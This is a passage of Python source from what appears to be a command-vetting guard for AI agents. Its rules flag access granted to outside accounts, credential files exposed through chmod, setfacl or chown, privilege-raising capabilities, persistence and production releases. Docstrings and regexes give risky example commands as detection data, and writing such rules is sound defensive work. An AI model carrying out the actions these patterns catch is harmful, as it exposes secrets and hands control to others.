        for account in dict.fromkeys(re.findall(r"(?<!\d)\d{12}(?!\d)", principal)):
            if not (cwd and committed_name(cwd, account)):
                return f"lets AWS account {account} in, an account the project names nowhere"
    return ""


def _runs_analysed_code(command: Command) -> bool:
    """A shell or an interpreter given code: what the code runs is analysed into commands of their own
    (`bash -c LINE`, `subprocess.run([...])` in `python3 -c`), so its text is no words of a tool's line."""
    entry = program(command.name)
    return entry is not None and bool(entry.roles & {Role.SHELL, Role.INTERPRETER})


def _granted_outside(command: Command, cwd: str) -> str:
    """A role or access given to a personal mail account (`--member=user:x@proton.me`), to an address of a
    domain that is not the project's own (`vercel teams invite ops@contractors.example` for
    github.com/acme/app), to another organisation's service account (`...@ext-build-7731.iam.
    gserviceaccount.com` while the command names its own project), or an owner's or administrator's role
    given to anyone (`roles/...organizationAdmin`)."""
    from limen.facts.hosts import FREE_MAIL_DOMAINS, project_repository

    if _runs_analysed_code(command):
        return ""
    line = " ".join(command.argv[1:])
    if _adds_administrators(command.argv):
        return "adds members to a group of administrators"
    if not _GRANTING.search(line):
        return ""
    members = [m.group(1).lower() for m in _MEMBER.finditer(line)]
    members += [w.lower() for w in command.argv[1:] if re.fullmatch(r"[\w.+-]+@[\w.-]+\.\w+", w)]
    for member in members:
        domain = member.rsplit("@", 1)[-1] if "@" in member else ""
        if domain in FREE_MAIL_DOMAINS:
            return f"gives {member} access: a personal mail account, outside the organisation"
        own = (
            project_repository(cwd) is not None
            and "." in domain
            and not domain.endswith(".iam.gserviceaccount.com")
        )
        if own and not project_domain(domain, cwd):
            return f"gives {member} access: an address outside the project's own domain"
        project = re.search(r"(?:--project[=\s]+|projects/)([\w-]+)", line)
        if (
            domain.endswith(".iam.gserviceaccount.com")
            and project
            and not domain.startswith(project.group(1) + ".")
        ):
            return f"gives {member} access: a service account of another project"
    role = re.search(r"(?i)--role[=\s]+[\"']?(\S+)", line)
    if role and _ADMIN_ROLE.search(role.group(1)):
        who = members[0] if members else "an account"
        return f"gives {who} the role {role.group(1)}: an owner's or administrator's rights"
    return ""


def _forge_widening(action: Action) -> str:
    """What a forge tool's call opens up, as `gh`'s table entry judges the same through the CLI: a
    repository made public, a branch's protection loosened; "" for none (admin rights granted are the
    normaliser's `ADMIN_GRANTED` note, for any tool)."""
    if not any({"own_remote", "foreign_remote"} & set(d.flags) for d in action.destinations):
        return ""
    args = action.arguments
    if args.get("private") is False or str(args.get("visibility", "")).lower() == "public":
        return "makes a repository public"
    loosened = any(v is False or v == 0 or v is None for v in args.values())
    if "protection" in action.tool.lower() and loosened:
        return "loosens a branch's protection"
    if any(
        k.lower() in ("admin_override", "bypass_branch_protection", "bypass") and v for k, v in args.items()
    ):
        return "bypasses a branch's protection"
    return ""


# File capabilities that make whoever runs the program root, or let it read or change anything: with any of
# them, `python3` or a shell is a way up (`cap_net_bind_service` for a server's port is not).
_ESCALATING_CAPABILITY = re.compile(
    r"(?i)\bcap_(?:setuid|setgid|sys_admin|sys_ptrace|sys_module|dac_override|dac_read_search|chown|fowner|"
    r"setfcap|sys_rawio|bpf)\b|^(?:all|=ep|\+ep)$"
)


# `setfacl -m u:bob:r KEY`, `g:devs:rw`, `o::r`: an entry that lets a named user, a group or others read.
_ACL_GRANTS_READ = re.compile(
    r"(?:^|,)(?:d(?:efault)?:)?(?:(?:u(?:ser)?|g(?:roup)?):[^:,]+|o(?:ther)?:?):[rwxX-]*r"
)


def _grants_read(mode: str) -> bool:
    """Whether a chmod mode lets the group or others read (`644`, `go+r`, `a=r`, `+r`)."""
    if re.fullmatch(r"[0-7]{3,4}", mode):
        digits = mode[-3:]
        return int(digits[1]) & 4 == 4 or int(digits[2]) & 4 == 4
    return any(
        (match := re.fullmatch(r"([ugoa]*)([+=])([rwxXst]*)", clause)) is not None
        and "r" in match.group(3)
        and (not match.group(1) or bool(set(match.group(1)) & {"g", "o", "a"}))
        for clause in mode.split(",")
    )


def _secret_shared(command: Command, mode: str, action: Action, ctx: Context) -> str:
    """A credential made readable by someone else: its mode opened to the group or others, an ACL entry
    for another user or group, or its ownership given away (`chmod 644 ~/.ssh/id_rsa`, `setfacl -m
    u:nobody:r KEY`, `chown nobody KEY`). Quiet: `chmod 600 KEY`, `chmod u+r KEY`, any of it on files
    that are not credentials."""
    operands = _operands(command.argv)
    if command.name == "chmod" and mode and _grants_read(mode):
        targets = operands[1:]
        what = f"chmod {mode} lets others read"
    elif command.name == "setfacl" and any(_ACL_GRANTS_READ.search(w) for w in command.argv[1:]):
        targets = [w for w in operands if not _ACL_GRANTS_READ.search(w)]
        what = "setfacl lets another user read"
    elif command.name == "chown" and operands and operands[0].split(":", 1)[0] not in _own_names():
        targets = operands[1:]
        what = f"chown gives {operands[0].split(':', 1)[0] or 'its group'} ownership of"
    else:
        return ""
    from limen.rules.paths import is_secret_file

    cwd = action.cwd or ctx.workspace or "/"
    for target in targets:
        if _GLOB_CHARS.search(target):  # `chmod 644 img/*`: a pattern that could match a key is no key named
            continue
        path = canonical(target, cwd, ctx.home)
        if is_secret_file(path) and not (
            command.name == "chmod" and _service_group_reads(mode, path, action, cwd, ctx.home)
        ):
            return f"{what} the secret {path}"
    return ""


_GLOB_CHARS = re.compile(r"[*?\[{]")


def _service_group_reads(mode: str, path: str, action: Action, cwd: str, home: str) -> bool:
    """`chgrp ssl-cert KEY && chmod 640 KEY`, `chown -R mosquitto:mosquitto certs && chmod 640 certs/KEY`:
    the key is read by the group of the service that uses it, which the same line gives it to, and by no one
    else: how servers are handed their keys. A mode others read by, or a group everyone is in, is no such."""
    if not re.fullmatch(r"0?[0-7][0-7]0", mode):
        return False
    for command in action.commands:
        operands = _operands(command.argv)
        if command.name == "chgrp" and len(operands) >= 2:
            group, targets = operands[0], operands[1:]
        elif command.name == "chown" and len(operands) >= 2 and ":" in operands[0]:
            group, targets = operands[0].split(":", 1)[1], operands[1:]
        else:
            continue
        if not group or group in _EVERYONES_GROUPS or group.startswith("$"):
            continue
        for target in targets:
            owned = canonical(target, cwd, home)
            if owned == path or path.startswith(owned.rstrip("/") + "/"):
                return True
    return False


# Groups every account on a machine is in, or that administer it
_EVERYONES_GROUPS = frozenset({"users", "staff", "everyone", "wheel", "sudo", "admin", "nogroup", "nobody"})


@lru_cache(maxsize=1)
def _own_names() -> frozenset[str]:
    """The names `chown` gives the current user by: keeping one's own file is no change of hands."""
    import pwd

    names = {"$USER", "${USER}", "$(whoami)", "$(id -u)", "$(id -un)", str(os.getuid())}
    with suppress(KeyError):
        names.add(pwd.getpwuid(os.getuid()).pw_name)
    return frozenset(names)


def _opens_data_to_everyone(command: Command, mode: str, action: Action, ctx: Context) -> bool:
    """`chmod -R o+rX /data/controlled/dbgap_phs001234`: a folder outside the project, the homes and the
    temporary folders, and not one a web server serves, made readable by every account, all it holds."""
    recursive = bool(_short_flags(command.argv[1:]) & {"R"}) or "--recursive" in command.argv
    if command.name != "chmod" or not recursive:
        return False
    clauses = [re.fullmatch(r"([ugoa]*)[+=]([rwxXst]*)", clause) for clause in mode.split(",")]
    readable = any(m and "r" in m.group(2) and set(m.group(1)) & {"o", "a"} for m in clauses)
    targets = [_target(w, action, ctx) for w in _operands(command.argv)[1:]]
    return readable and any(_beyond_work(t, ctx) and not SERVED_FOLDER.search(t + "/") for t in targets)


def _mode_set(command: Command) -> str:
    """The mode a command sets: `chmod MODE f`, `install -m MODE`, `mkdir -m MODE`."""
    if command.name == "chmod":
        operands = _operands(command.argv)
        return operands[0] if len(operands) > 1 else ""
    if command.name in ("install", "mkdir", "mkfifo", "mknod"):
        argv = command.argv
        for i, word in enumerate(argv[:-1]):
            if word in ("-m", "--mode"):
                return argv[i + 1]
        return next((w.split("=", 1)[1] for w in argv if w.startswith("--mode=")), "")
    return ""


# --------------------------------------------------------------------------- persistence_write


def _persistence(command: Command, cwd: str, strict: bool) -> str:
    name, args = command.name, command.argv[1:]
    if name in ("crontab", "scrontab"):  # (Slurm's `scrontab` keeps a user's jobs the same way)
        flags = _short_flags(args)
        if flags & {"l", "r"}:
            return ""  # listing (removal is destructive_command's)
        files = [w for i, w in enumerate(args) if not w.startswith("-") and (i == 0 or args[i - 1] != "-u")]
        if files or "-" in args or "e" in flags or not [w for w in args if w != "-u"]:
            return f"{name} installs jobs"
    if name == "systemctl" and any(w in args for w in ("enable", "link", "preset", "reenable", "add-wants")):
        return "systemctl enables a unit"
    if name == "launchctl" and any(w in args for w in ("load", "bootstrap", "submit", "enable")):
        return "launchctl loads an agent"
    if name in ("update-rc.d", "chkconfig", "rc-update") and any(
        w in args for w in ("enable", "defaults", "on", "add")
    ):
        return f"{name} adds a boot service"
    if name in ("at", "batch") and args and not set(args) & {"-l", "-r", "-d", "-c"}:
        return f"{name} schedules a command"
    if name in ("useradd", "adduser", "usermod", "chpasswd", "passwd", "visudo", "groupadd", "newusers"):
        if name == "visudo" and {"-c", "--check"} & set(args):
            return ""  # `visudo -c`: the sudoers files checked, nothing changed
        if name == "usermod" and _device_groups_only(args):
            return ""  # `usermod -aG dialout,plugdev $USER`: a serial port and USB devices, no privilege
        return f"{name} changes accounts"
    entry = program(name)
    if entry is not None and entry.schedules and re.search(entry.schedules, " ".join(args)):
        # `glab schedule create --cron '0 * * * *'`, `schtasks /create`, a Run key, a netsh helper DLL
        return f"{name} sets up something that runs later without asking (a schedule, an autostart)"
    if entry is not None and Role.CONTAINER in entry.roles and _RESTARTS.search(" ".join(args)):
        return f"{name} starts a container that restarts with the machine"
    if entry is not None and entry.reroutes and re.search(entry.reroutes, " ".join(args)):
        hosts = _URL_HOST.findall(" ".join(args))
        repositories = _FORGE_REPOSITORY.findall(
            " ".join(args)
        )  # someone's repository on a forge is no registry
        plain = any(_over_the_internet(h) for h in _PLAIN_HTTP_HOST.findall(" ".join(args)))
        if (
            hosts
            and not repositories
            and not plain
            and all(own_package_source(h, cwd, strict) for h in hosts)
        ):  # `npm config set registry https://registry.npmjs.org/`: the official source, or the company's own
            return ""
        if plain:  # (`gem sources --add http://rubygems.org/`: anyone on the path chooses what installs)
            return f"{name} takes its packages over plain HTTP from then on"
        return f"{name} points itself at another package source or at a program it runs later"
    return ""


_URL_HOST = re.compile(r"\w+://(?:[^@/\s]*@)?([^/:\s'\"]+)")
_PLAIN_HTTP_HOST = re.compile(r"(?<![\w+])http://(?:[^@/\s]*@)?([^/:\s'\"]+)")


def _over_the_internet(host: str) -> bool:
    """A host reached across networks others share: not this machine, nor the private network
    (`http://localhost:4873`, a registry on `10.0.0.5` stay on the user's own network)."""
    from limen.normalize.net import host_destination

    return host_destination(host).host_class not in (
        HostClass.LOOPBACK,
        HostClass.PRIVATE,
        HostClass.LINK_LOCAL,
    )


_RESTARTS = re.compile(r"(?:^|\s)--restart(?:=|\s+)(?:always|unless-stopped)(?:\s|$)")


def _ordinary_jobs(command: Command, action: Action, ctx: Context) -> bool:
    """`(crontab -l; echo '15 2 * * * /opt/acme/bin/rollup.sh >> /var/log/rollup.log 2>&1') | crontab -`,
    `crontab deploy/crontab`: in light and balanced, a user's cron table given jobs Limen can read (what the
    line prints into it, or the file it installs) that are each an ordinary command (`written.plain_jobs`),
    as the same lines written into a cron file are. A table whose text is unseen (`crontab -e`, `crontab -l |
    grep -v backup | crontab -`: a job taken out) is still asked."""
    if command.name not in ("crontab", "scrontab") or ctx.mode not in (Mode.LIGHT, Mode.BALANCED):
        return False
    from limen.rules.written import current_text, plain_jobs

    args = command.argv[1:]
    if _short_flags(args) & {"e", "l", "r", "i"}:
        return False
    # (the line only lists the table, filters it and prints the new lines: what it installs is what it
    # prints; `cat /tmp/jobs | crontab -` beside an `echo` of a harmless line would install the other)
    if not all(_builds_cron_text(c) for c in action.commands):
        return False
    operands = [w for i, w in enumerate(args) if not w.startswith("-") and (i == 0 or args[i - 1] != "-u")]
    if operands:  # `crontab FILE`: the file as it is, or as this line writes it
        path = canonical(operands[0], action.cwd or ctx.workspace, ctx.home)
        text = "\n".join(action.payloads) if path in action.write_paths else current_text(path) or ""
    else:
        text = "\n".join(action.payloads)
    return bool(text) and plain_jobs(text, action, ctx)


def _builds_cron_text(command: Command) -> bool:
    """A command of a line that installs a cron table from its own text: the table's own program, a print
    of the lines, or a filter of the listed table with no file of its own (`grep -v backup`)."""
    if command.via or command.dynamic_name:
        return False
    if command.name in ("crontab", "scrontab", "echo", "printf"):
        return True
    return command.name == "grep" and len(_operands(command.argv)) <= 1


def _persists_note(action: Action) -> str:
    """What the normaliser found set up to run later (`git config core.pager CMD`: `persists:` notes)."""
    return next((n.split(":", 1)[1].strip() for n in action.notes if n.startswith("persists:")), "")


@rule(ReasonCode.PRODUCTION_CHANGE, needs=("acting", "notes"))
def production_change(action: Action, ctx: Context) -> Iterator[Finding]:
    """A deploy, apply, migration or release (what the program table's `changes` says changes the system a
    program controls) pointed at production by name: an option, a file or context, or the environment
    variable the line sets (`dotnet ef database update --environment Production`, `MIX_ENV=prod mix
    ecto.migrate`, `helm upgrade api -f values-prod.yaml`), and a release published to the project's users
    whatever the line names (a store upload or promotion, `gh release create`, a release tag pushed, a task
    runner's deploy or publish task): AUTH. Quiet: the same against staging or a local database, reads of
    production (`kubectl --context prod get pods`, `terraform plan`), `--help` and dry runs, and `release` as
    a build configuration (`cmake --preset release`). An MCP tool that is no read, given a production target
    by an argument (`ps_scale(app="shop-prod")`), asks the same; a statement that only reads does not."""
    target = next((n[len(PRODUCTION_TARGET) :] for n in action.notes if n.startswith(PRODUCTION_TARGET)), "")
    statements = sql_statements(action.arguments) if target else []
    if target and not (statements and not any(SQL_WRITE.search(t) for t in statements)):
        yield _finding(ReasonCode.PRODUCTION_CHANGE, Verdict.AUTH, 70, f"{action.tool} acts on {target[:60]}")
        return
    for command in action.commands:
        if released := _release(command):
            yield _finding(ReasonCode.PRODUCTION_CHANGE, Verdict.AUTH, 70, released)
            return
        entry = program(command.name)
        if entry is None or not (entry.changes or entry.live):
            continue
        if entry.store_service is not None and reads_from_store(entry, tuple(command.argv[1:])):
            continue  # `gsutil cp gs://acme-prod-artifacts/manifest.json .`: a copy taken, nothing changed
        words = " ".join(command.argv[1:])
        # the environment the line says it acts in, when it says so, over a word elsewhere (`dbt build
        # --target dev --state ../prod-manifest` builds dev, reading production's manifest)
        named = _scope_values(command, _ENVIRONMENT_OPTIONS)
        elsewhere = bool(named) and all(NOT_PRODUCTION.search(v) and not PRODUCTION.search(v) for v in named)
        aimed = not elsewhere and (
            PRODUCTION.search(words)
            or (entry.default_production and not NOT_PRODUCTION.search(" ".join(_scope_values(command))))
            or _on_production_host(command, action.commands)
        )
        rehearsal = any(w.startswith(_REHEARSALS) for w in command.argv[1:])
        if entry.live and _pattern(entry.live).search(words) and not rehearsal:
            detail = f"{command.name} changes what the public reaches (a DNS record, a domain, what answers)"
            yield _finding(ReasonCode.PRODUCTION_CHANGE, Verdict.AUTH, 70, detail)
            return
        statements = sql_arguments(command) or _sql_texts(command) or session_sql(command, action)
        reads_only = bool(statements) and not any(SQL_WRITE.search(t) for t in statements)  # a SELECT
        if (
            entry.changes
            and _pattern(entry.changes).search(words)
            and aimed
            and not (rehearsal or reads_only or _on_local_copy(command))
        ):
            yield _finding(
                ReasonCode.PRODUCTION_CHANGE, Verdict.AUTH, 70, f"{command.name} changes production"
            )
            return


# The ports a firewall rule on a command line opens (`--port 443`, `ports:80,443`, `--destination-port 22`)
_RULE_PORTS = re.compile(r"(?:--(?:destination-|dst-|d)?ports?[=\s]+|\bports?(?:[:=]\s*|\s+))([\d,-]+)")


def _web_ports_only(given: str) -> bool:
    """The rule opens the web's ports and no other: a web server open to the web is what it is for."""
    ports = [p for found in _RULE_PORTS.findall(given) for p in found.split(",") if p]
    return bool(ports) and all(p in ("80", "443") for p in ports)


def _rules_deployed_open(action: Action) -> str:
    """A server's tool that deploys security rules (`firestore_update_rules`, `storage_set_rules`) given
    rules that let anyone in, judged as the same text written to `firestore.rules` is."""
    from limen.normalize.tools import words_of
    from limen.rules.written import security_rules_concerns

    if not action.tool.startswith("mcp__") or "rules" not in words_of(action.tool).split("_"):
        return ""
    for value in list(action.arguments.values())[:16]:
        if isinstance(value, str) and "allow" in value and (found := security_rules_concerns(value)):
            return found[0]
    return ""


def _on_production_host(command: Command, commands: tuple[Command, ...]) -> bool:
    """`ssh web1.prod.acme.com sudo systemctl stop nginx`, `ansible -i inventories/production all -a CMD`: a
    command run on other machines by a remote runner (`Role.REMOTE_LOGIN`) whose own words name production,
    the host or the inventory."""
    if not command.via:
        return False
    runner = command.via[0].split()[0]
    entry = program(runner)
    return (
        entry is not None
        and Role.REMOTE_LOGIN in entry.roles
        and any(
            outer.name == runner and not outer.via and PRODUCTION.search(" ".join(outer.argv[1:]))
            for outer in commands
        )
    )


_FORGE_REPOSITORY = re.compile(
    r"https?://(?:www\.)?(?:github\.com|gitlab\.com|bitbucket\.org)/[\w.-]+/[\w.-]+"
)
# Task runners that take the task to run as an operand (after `run` for the package managers' scripts)
_TASK_RUNNERS = frozenset({"fastlane", "bitrise", "npm", "yarn", "pnpm", "bun", "mage", "invoke", "earthly"})
# Build tools whose lifecycle has a publishing step by name (`mvn deploy`, `gradle publish`); a Makefile's or
# a justfile's recipe is read for what it runs, not judged by its name
# (and the JVM's other builds: sbt's `publishSigned`, Mill's `__.publishArtifacts`, Leiningen's `deploy`)
_PUBLISHING_BUILDS = frozenset({"gradle", "gradlew", "mvn", "mvnw", "sbt", "mill", "lein"})
# What only asks a tool about itself or tries a run out: `--help`, `--dry-run`
_ASKS_ONLY = frozenset({"--help", "-h", "help", "--dry-run", "--dryrun", "--noop", "--check"})


def _release(command: Command) -> str:
    """A release published to the project's users (`facts.programs.RELEASES`: a store upload, a release
    created on the forge, a release tag pushed), or a task runner's or build tool's task named for one (`npm
    run deploy`, `bitrise run deploy`, `mvn deploy`) not aimed at a test or staging target."""
    from limen.facts.programs import NOT_PRODUCTION, RELEASE_TASK, RELEASES

    pattern = RELEASES.get(command.name)
    if not (pattern or command.name in _TASK_RUNNERS or command.name in _PUBLISHING_BUILDS):
        return ""
    # (a path's home folder is a user's name, no stage: `/home/dev/...`; a task left out is no target:
    # `gradle publish -x test`)
    kept = [
        w for i, w in enumerate(command.argv[1:], 1) if command.argv[i - 1] not in ("-x", "--exclude-task")
    ]
    words = " ".join(below_home(w) if w.startswith("/") else w for w in kept)
    if NOT_PRODUCTION.search(words) or _ASKS_ONLY & set(command.argv[1:]) or "-n" in command.argv[1:2]:
        return ""
    if "--draft" in command.argv[1:] or (command.name == "gh" and "-d" in command.argv[3:]):
        return ""  # a draft: only the project's own collaborators see it until someone publishes it
    if pattern and re.search(pattern, words):
        return f"{command.name} publishes a release to the project's users"
    if command.name in _TASK_RUNNERS or command.name in _PUBLISHING_BUILDS:
        operands = [w for w in command.argv[1:] if not w.startswith("-") and "=" not in w]
        if command.name in ("npm", "yarn", "pnpm", "bun") and operands[:1] != ["run"]:
            operands = operands if command.name == "yarn" else []
        task = next((w for w in operands if RELEASE_TASK.search(w)), "")
        if task:
            return f"{command.name} runs the project's {task} task, a release"
    return ""


@rule(ReasonCode.PERSISTENCE_WRITE, needs="acting")
def persistence_command(action: Action, ctx: Context) -> Iterator[Finding]:
    """Commands that make something run later without the user asking: cron tables, services and timers,
    user accounts and sudoers, login shells, `PATH` hijacks, launch agents: AUTH (BLOCK in strict). Quiet:
    listing them (`crontab -l`, `systemctl status`)."""
    if not action.commands:
        return
    home_bins = (f"{ctx.home}/.local/bin/", f"{ctx.home}/bin/") if ctx.home else ()
    shadow = next((p for p in action.write_paths if os.path.dirname(p) + "/" in home_bins), None)
    persists = _persists_note(action)
    for command in action.commands:
        if _ordinary_jobs(command, action, ctx):
            continue
        why = (
            _persistence(command, action.cwd or ctx.workspace, ctx.mode.strict_or_above)
            or persists
            or ("writes a command into a home bin folder, ahead of system commands on PATH" if shadow else "")
        )
        if why:
            strict = ctx.mode.strict_or_above
            yield _finding(
                ReasonCode.PERSISTENCE_WRITE,
                Verdict.BLOCK if strict else Verdict.AUTH,
                92 if strict else 70,
                why,
            )
            return
